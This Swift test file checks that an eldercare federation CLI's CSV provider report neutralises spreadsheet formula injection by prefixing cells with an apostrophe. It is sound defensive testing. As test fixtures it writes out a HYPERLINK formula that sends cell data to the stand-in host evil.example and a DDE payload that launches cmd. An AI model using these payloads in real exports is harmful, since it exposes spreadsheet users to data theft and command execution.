import Eldercare
import FederationNode
import Foundation
import Testing

/// `fedctl report providers --format csv` against a running node whose provider names a formula: the
/// export a city hands to Excel shows it as text.
@Suite(.serialized, .timeLimit(.minutes(10))) struct FedctlReportCSVTests {
    static let street = "130102001000"

    @Test func aProviderNamedLikeAFormulaIsExportedAsText() async throws {
        let federation = try ProcessFederation()
        defer { federation.shutdown() }
        try federation.initialise(Self.street, name: "建设街道")
        try await federation.start(Self.street)
        let names = [#"=HYPERLINK("http://evil.example/?d="&A1,"详情")"#, "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2", "-3+4"]
        let providers: [[String: Any]] = names.enumerated().map { index, name in
            [
                "id": "P-\(index)", "name": name, "contract_status": "active", "contract_start": "2026-01-01",
                "categories": ["daily_care"],
            ]
        }
        let posted = try await federation.post(Self.street, "/api/v1/providers", json: providers)
        #expect((posted["accepted"] as? NSNumber)?.intValue == names.count, "\(posted)")
        // The providers report lists the providers with visits in the period: one each, for one elder.
        let elder: [[String: Any]] = [
            ["id": "E-1", "resident_id": "11010519491231002X", "name": "王秀英", "community": "130102001001"]
        ]
        let registered = try await federation.post(Self.street, "/api/v1/elders", json: elder)
        #expect((registered["accepted"] as? NSNumber)?.intValue == 1, "\(registered)")
        let visits: [[String: Any]] = names.indices.map { index in
            [
                "id": "V-\(index)", "elder_id": "E-1", "provider_id": "P-\(index)", "category": "daily_care",
                "item": "助浴", "check_in": "2026-01-10T09:00:00+08:00", "check_out": "2026-01-10T10:00:00+08:00",
                "community": "130102001001",
            ]
        }
        let recorded = try await federation.post(Self.street, "/api/v1/visits", json: visits)
        #expect((recorded["accepted"] as? NSNumber)?.intValue == names.count, "\(recorded)")
        let csv = try federation.fedctl(
            [
                "report", "providers", "--node", federation.url(Self.street), "--period", "month", "--date",
                "2026-01-15",
                "--format", "csv",
            ],
            environment: ["ELDERCARE_TOKEN": federation.nodes[Self.street]?.token ?? ""])
        #expect(csv.status == 0, "\(csv.error)")
        #expect(csv.output.contains(#","'=HYPERLINK(""http://evil.example/?d=""&A1,""详情"")","#), "\(csv.output)")
        #expect(csv.output.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"), "\(csv.output)")
        #expect(csv.output.contains(",'+1-2,") && csv.output.contains(",'-3+4,"), "\(csv.output)")
        // No cell of the file starts with a trigger unless it is a plain number.
        for line in csv.output.dropFirst().split(separator: "\r\n") {
            for cell in Self.cells(String(line)) {
                if let first = cell.first, "=+-@\t".contains(first) {
                    #expect(CSVField.isPlainNumber(cell), "\(cell) in \(line)")
                }
            }
        }
    }

    /// A CSV line's cells (RFC 4180: quoted cells may hold commas and doubled quotes).
    static func cells(_ line: String) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var characters = line.makeIterator()
        var pending: Character? = nil
        while let character = pending ?? characters.next() {
            pending = nil
            if quoted {
                if character == "\"" {
                    let next = characters.next()
                    if next == "\"" {
                        cell.append("\"")
                    } else {
                        quoted = false
                        pending = next
                    }
                } else {
                    cell.append(character)
                }
            } else if character == "\"" && cell.isEmpty {
                quoted = true
            } else if character == "," {
                cells.append(cell)
                cell = ""
            } else {
                cell.append(character)
            }
        }
        cells.append(cell)
        return cells
    }
}
